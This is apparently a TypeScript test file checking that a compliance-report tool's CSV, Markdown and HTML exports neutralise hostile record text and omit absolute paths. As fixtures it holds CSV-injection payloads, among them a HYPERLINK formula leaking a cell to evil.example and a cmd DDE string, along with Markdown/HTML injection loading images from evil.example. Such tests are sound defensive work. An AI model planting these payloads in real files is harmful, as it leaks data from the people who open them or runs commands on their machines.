import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkWorkspace, defaultOptions, parseFile } from '../../server/src/core';
import { computeCoverage } from '../../server/src/core/coverage';
import { renderCsv, renderHtml, renderJson, renderMarkdown, renderReport, REPORT_FORMATS } from '../../server/src/core/report';
import { MANIFEST, soa } from '../helpers/fixtures';
import { fakeFs, ROOT } from '../helpers/workspace';

/** Text a hostile contributor could put in a record: formulas, Markdown and HTML, line breaks, terminal escapes. */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const MARKUP = 'Chat\n\n# Injected heading\n<img src=http://evil.example/x.png> ![](http://evil.example/y.png) **Approved by auditor** | x';

function coverageOf(files: Record<string, string>) {
  const parsed = Object.entries(files)
    .sort(([a], [b]) => a.localeCompare(b))
    .map(([rel, text]) => parseFile(`${ROOT}/${rel}`, text));
  const options = defaultOptions({ asOf: '2026-11-23' });
  const result = checkWorkspace(ROOT, parsed, options, fakeFs(['evidence/x.md']));
  return [computeCoverage(result.index, result.diagnostics, options)];
}

const hostile = () =>
  coverageOf({
    'aims.aims.yaml': MANIFEST.replace('organisation: Test Org', `organisation: ${JSON.stringify(MARKUP)}`),
    'soa.aims.yaml': soa()
      .replace('justification: Needed for our systems.', `justification: '${FORMULA.replace(/'/g, "''")}'`)
      .replace('justification: Needed for our systems.', 'justification: "+1+cmd|\' /C calc\'!A0"')
      .replace('justification: Needed for our systems.', 'justification: "-2+3"')
      .replace('justification: Needed for our systems.', 'justification: "@SUM(1+1)"')
      .replace('justification: Needed for our systems.', 'justification: "\\tTab first"')
      .replace('justification: Needed for our systems.', 'justification: "\\rCR first"')
      .replace('justification: Needed for our systems.', 'justification: "＝fullwidth"'),
    'systems/chat.aims.yaml': [
      'aims: 1',
      'kind: AISystem',
      'id: chat',
      `name: ${JSON.stringify(MARKUP)}`,
      'owner: aims-owner',
      'operatorRoles: [deployer]',
      'classification: { tier: minimal, basis: none }',
      'obligations:',
      '  Art. 4: { status: met, evidence: [../evidence/x.md] }',
      '',
    ].join('\n'),
  });

describe('CSV export neutralises spreadsheet formulas (OWASP CSV injection)', () => {
  const rows = () => renderCsv(hostile()).split('\r\n');
  it('prefixes a cell that starts with =, +, -, @, tab or CR with a quote, inside double quotes', () => {
    const csv = rows().join('\n');
    assert.ok(csv.includes(`,"'${FORMULA.replace(/"/g, '""')}"`), csv.slice(0, 2000));
    assert.ok(csv.includes(`,"'+1+cmd|' /C calc'!A0"`));
    assert.ok(csv.includes(`,"'-2+3"`));
    assert.ok(csv.includes(`,"'@SUM(1+1)"`));
    assert.ok(csv.includes(`,"'\tTab first"`));
    assert.ok(csv.includes(`,"'\rCR first"`));
    assert.ok(csv.includes(`,"'＝fullwidth"`));
  });
  it('leaves no cell that a spreadsheet would read as a formula', () => {
    for (const row of rows()) {
      for (const cell of row.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) {
        const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        assert.doesNotMatch(value, /^[=+\-@\t\r＝＋－＠]/, `cell ${JSON.stringify(value)} in ${row}`);
      }
    }
  });
});

describe('Markdown export escapes user text for where it stands', () => {
  const md = () => renderMarkdown(hostile());
  it('a name or organisation cannot start a block, raw HTML, an image or emphasis', () => {
    const out = md();
    assert.doesNotMatch(out, /^# Injected heading/m);
    assert.doesNotMatch(out, /<img/);
    assert.doesNotMatch(out, /(^|[^\\])!\[/);
    assert.doesNotMatch(out, /(^|[^\\])\*\*Approved/);
    assert.match(out, /^# AIMS coverage report: Chat \\# Injected heading &lt;img src=/m);
    assert.ok(
      out.includes(
        '\n### Chat \\# Injected heading &lt;img src=http://evil.example/x.png&gt; \\!\\[\\]\\(http://evil.example/y.png\\) \\*\\*Approved by auditor\\*\\* \\| x (chat)\n',
      ),
      out,
    );
  });
  it('a table cell keeps its row: no line break or bare pipe from a value', () => {
    const lines = md().split('\n');
    const row = lines.find((l) => l.startsWith('| A.2.2 |'))!;
    assert.equal(row.split(/(?<!\\)\|/).length, 8, row);
  });
});

describe('HTML export escapes user text', () => {
  it('no tag or attribute comes from a record', () => {
    const html = renderHtml(hostile(), { nonce: 'n', webview: false });
    assert.doesNotMatch(html, /<img|<script|onerror/i);
    assert.match(html, /&#60;img src=http:\/\/evil\.example\/x\.png&#62;/);
  });
});

describe('reports carry no absolute local paths', () => {
  it('every format names files relative to the workspace folder', () => {
    const list = coverageOf({
      'aims.aims.yaml': MANIFEST,
      'soa.aims.yaml': soa(),
      'systems/chat.aims.yaml':
        'aims: 1\nkind: AISystem\nid: chat\nname: Chat\nowner: aims-owner\noperatorRoles: [deployer]\nclassification: { tier: minimal, basis: none }\nobligations:\n  Art. 4: { status: met, evidence: [../evidence/x.md] }\n',
    });
    for (const format of REPORT_FORMATS) {
      const out = renderReport(list, format);
      assert.ok(!out.includes(`${ROOT}/`), `${format} report leaks ${ROOT}/: ${out.slice(out.indexOf(ROOT) - 80, out.indexOf(ROOT) + 80)}`);
    }
    const json = JSON.parse(renderJson(list)) as {
      workspaces: { root: string; systems: { file: string; location: { file: string } }[] }[];
    };
    assert.equal(json.workspaces[0].systems[0].file, 'systems/chat.aims.yaml');
    assert.equal(json.workspaces[0].systems[0].location.file, 'systems/chat.aims.yaml');
    assert.equal(json.workspaces[0].root, 'ws');
  });
});
